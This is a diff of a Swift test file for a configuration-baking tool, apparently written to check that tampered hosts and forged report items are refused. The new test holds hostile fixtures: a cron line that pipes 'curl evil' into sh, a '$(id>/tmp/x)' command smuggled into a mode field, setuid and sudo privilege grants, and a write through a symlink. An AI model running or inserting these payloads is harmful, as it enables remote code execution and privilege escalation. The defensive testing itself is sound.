@@ -5,7 +5,9 @@ import Testing
 
 @Suite("Bake")
 struct BakeTests {
-    @Test("compare --bake writes the host's changes as apply.sh, files/ and a README; tampering is left out")
+    @Test(
+        "compare --bake writes the host's changes as apply.sh, files/ and a README; a host that looks tampered with is not baked"
+    )
     func bakeFromOneHost() throws {
         let fixture = try Fixture()
         try fixture.populateImage()
@@ -16,8 +18,6 @@ struct BakeTests {
         chmod(dir.url("image/etc/app/app.conf"), 0o644)
         chmod(dir.url("image/srv/app/config.yml"), 0o600)
         symlink("/etc/app/app.conf", dir.url("image/etc/app.conf"))
-        try dir.write("image/usr/local/bin/helper", "#!/bin/sh\n", mode: 0o4755)
-        chmod(dir.url("image/usr/local/bin/helper"), 0o4755)
         try dir.write("image/opt/blob.bin", "binary\u{0}data")
         let host = try fixture.scan("host.jsonl")
         let bake = dir.url("bake")
@@ -30,12 +30,11 @@ struct BakeTests {
         #expect(script.contains("install -m 0644 -o 0 -g 0 \"$here/files\"'/etc/app/app.conf' '/etc/app/app.conf'"))
         #expect(script.contains("ln -sfn '/etc/app/app.conf' '/etc/app.conf'"))
         #expect(script.contains("chmod 0600 '/srv/app/config.yml'"))
-        #expect(!script.contains("helper"), "a setuid program is never baked")
         #expect(
             try String(contentsOfFile: bake + "/files/etc/ssh/sshd_config", encoding: .utf8)
                 == "PermitRootLogin no\nPasswordAuthentication no\nAllowUsers ops\n")
         let readme = try String(contentsOfFile: bake + "/README.md", encoding: .utf8)
-        #expect(readme.contains("tampering-grade, never baked: file /usr/local/bin/helper added"), "\(readme)")
+        #expect(readme.contains("- /etc/ssh/sshd_config: 60 bytes, mode 0644, owner 0:0"), "\(readme)")
         let byHand = try String(contentsOfFile: bake + "/by-hand.txt", encoding: .utf8)
         #expect(byHand.hasPrefix("/opt/blob.bin\t"), "no content kept outside /etc: copied by hand")
         // The script is valid POSIX sh, and shellcheck finds nothing in it.
@@ -44,6 +43,13 @@ struct BakeTests {
         #expect(lint.status == 0, "\(lint.stdout)")
         let again = try fixture.compare(base, host, ["--bake", bake])
         #expect(again.status == 2 && again.stderr.contains("already exists"), "an existing directory is refused")
+        // A setuid program appears: the host is under investigation, and nothing of it is baked.
+        try dir.write("image/usr/local/bin/helper", "#!/bin/sh\n", mode: 0o755)
+        chmod(dir.url("image/usr/local/bin/helper"), 0o4755)
+        let tampered = try fixture.scan("tampered.jsonl")
+        let refused = try fixture.compare(base, tampered, ["--bake", dir.url("bake2")])
+        #expect(refused.status == 2 && refused.stderr.contains("looks tampered with"), "\(refused.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: dir.url("bake2")))
     }
 
     @Test("names that a script must not carry never reach apply.sh; packages are pinned in the manager's syntax")
@@ -83,5 +89,49 @@ struct BakeTests {
         var rpm = plan
         rpm.manager = "rpm"
         #expect(BakeDirectory.packageList(rpm).hasPrefix("tcpdump-4.99.3-1\n"))
+    }
+
+    @Test(
+        "a forged report cannot bake other content than its digest says, shell through a mode, privilege, or a write through a link"
+    )
+    func forgedItemsAreRefused() throws {
+        func item(_ json: String) throws -> JSONValue { try JSONParser.parse(Array(json.utf8)) }
+        let evil = Base64.encode(try #require(GzipStream.compress(Array("* * * * * root curl evil | sh\n".utf8))))
+        let honest = Hex.encode(SHA256Hasher.digest(UnsafeRawBufferPointer(start: "ok\n", count: 3)))
+        let items = [
+            try item(
+                #"{"kind":"file","name":"/etc/cron.d/backup","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"file","mode":"0644","uid":0,"gid":0,"size":3,"sha256":"\#(honest)","content_gz":"\#(evil)"}}"#
+            ),
+            try item(
+                #"{"kind":"file","name":"/etc/a.conf","change":"modified","fields":["mode"],"severity":"high","baseline":null,"host":{"type":"file","mode":"$(id>/tmp/x)0644","uid":0,"gid":0,"size":1}}"#
+            ),
+            try item(
+                #"{"kind":"file","name":"/usr/bin/find","change":"modified","fields":["mode"],"severity":"medium","baseline":null,"host":{"type":"file","mode":"4755","uid":0,"gid":0,"size":1}}"#
+            ),
+            try item(
+                #"{"kind":"file","name":"/etc/sudoers.d/ops","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"file","mode":"0440","uid":0,"gid":0,"size":1}}"#
+            ),
+            try item(
+                #"{"kind":"group","name":"sudo","change":"modified","fields":["members"],"severity":"high","baseline":{"gid":27,"members":[]},"host":{"gid":27,"members":["mallory"]}}"#
+            ),
+            try item(
+                #"{"kind":"file","name":"/etc/x","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"symlink","mode":"0777","uid":0,"gid":0,"size":8,"target":"/usr/bin"}}"#
+            ),
+            try item(
+                #"{"kind":"file","name":"/etc/x/ls","change":"added","fields":[],"severity":"high","baseline":null,"host":{"type":"file","mode":"0755","uid":0,"gid":0,"size":1}}"#
+            ),
+        ]
+        let plan = BakePlan(items: items)
+        #expect(plan.files.map(\.path) == ["/etc/x"], "only the link: \(plan.files.map(\.path))")
+        let byHand = Dictionary(uniqueKeysWithValues: plan.byHand.map { ($0.path, $0.why) })
+        #expect(byHand["/etc/cron.d/backup"]?.contains("does not match its digest") == true)
+        #expect(byHand["/etc/sudoers.d/ops"]?.contains("grants privilege") == true)
+        #expect(byHand["/etc/x/ls"]?.contains("below a link") == true)
+        #expect(plan.leftOut.contains("no valid mode, owner and group: file /etc/a.conf"))
+        #expect(plan.leftOut.contains("holds setuid, setgid or capabilities, never baked: file /usr/bin/find"))
+        #expect(plan.leftOut.contains { $0.hasPrefix("grants privilege, never baked: group sudo") })
+        let script = BakeDirectory.script(plan, source: "test")
+        #expect(!script.contains("$(id") && !script.contains("4755") && !script.contains("mallory"))
+        #expect(script.contains("no_link '/etc/x'"))
     }
 }
